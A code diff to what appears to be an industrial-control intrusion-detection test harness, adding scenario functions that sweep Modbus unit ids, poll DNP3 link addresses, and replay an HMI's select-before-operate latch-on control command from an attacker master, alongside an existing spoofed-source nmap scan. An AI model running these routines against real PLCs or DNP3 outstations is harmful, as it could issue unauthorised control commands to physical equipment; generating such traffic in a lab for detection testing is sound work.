@@ -10,7 +10,7 @@ import time
 
 import dnp3_generator  # type: ignore[import-not-found]
 from scenario_plant import (  # type: ignore[import-not-found]
-    ATTACKER_LINK, CIP_PLC, ENIP_PORT, EWS, HMI, RECIPE_REGISTER, S7_BIT, S7_BYTE, S7_WORD, SWEEP_PLCS, attempt,
+    ATTACKER_LINK, CIP_PLC, DNP3_PORT, ENIP_PORT, EWS, HMI, OUTSTATION, OUTSTATION_LINK, RECIPE_REGISTER, S7_BIT, S7_BYTE, S7_WORD, SWEEP_PLCS, attempt,
     dnp3_master, modbus_client, s7_client, s7_write_items,
 )
 from scenario_routine import _dnp3_attempt, hmi_bits  # type: ignore[import-not-found]
@@ -105,3 +105,43 @@ def attack_nmap_few_ot_hosts() -> None:
     host and port thresholds of a scan, from a known station that never spoke to those hosts."""
     subprocess.run(["nmap", "-sS", "-Pn", "-n", "-e", "lo", "-S", EWS, "--max-rate", "100",
                     "-p", QUIET_SCAN_PORTS, *QUIET_SCAN_TARGETS], check=True, stdout=subprocess.DEVNULL)
+
+
+def attack_modbus_unit_sweep() -> None:
+    """The HMI reads one register from unit ids 2 to 9 of the Modbus PLC (it only ever used unit 1)."""
+    client = modbus_client(HMI)
+    for unit in range(2, 10):
+        attempt(f"hmi unit {unit}", client.read_holding_registers, 1, count=1, device_id=unit)
+    client.close()
+
+
+def attack_dnp3_link_sweep_replay() -> None:
+    asyncio.run(_dnp3_link_sweep_replay())
+
+
+SWEPT_LINKS = (1, 2, 3, 4, 5, 6)
+
+
+async def _dnp3_link_sweep_replay() -> None:
+    """A class 0 poll to link addresses 1-6 (the outstation is 10 and ignores the others), then the HMI's
+    select-before-operate of a latch-on CROB on index 0, replayed from the attacker's master."""
+    from dnp3.core.enums import ControlCode
+    from dnp3.master import CommandBuilder, LinkResetPolicy, Master, MasterConfig, MasterTcpRunner
+
+    for link in SWEPT_LINKS:
+        master = Master(config=MasterConfig(address=ATTACKER_LINK, outstation_address=link))
+        runner = MasterTcpRunner(master=master, host=OUTSTATION, port=DNP3_PORT, response_timeout=0.4,
+                                 link_reset=LinkResetPolicy.NEVER)
+        await runner.open()
+        try:
+            await _dnp3_attempt(f"attacker poll link {link}", runner.integrity_poll())
+        finally:
+            await runner.close()
+    runner = dnp3_master(ATTACKER_LINK)
+    await runner.open()
+    try:
+        crob = CommandBuilder().add_crob(0, ControlCode.LATCH_ON)
+        await _dnp3_attempt("replayed select", runner.request(runner.master.build_select(crob.build_select())))
+        await _dnp3_attempt("replayed operate", runner.request(runner.master.build_operate(crob.build_operate())))
+    finally:
+        await runner.close()
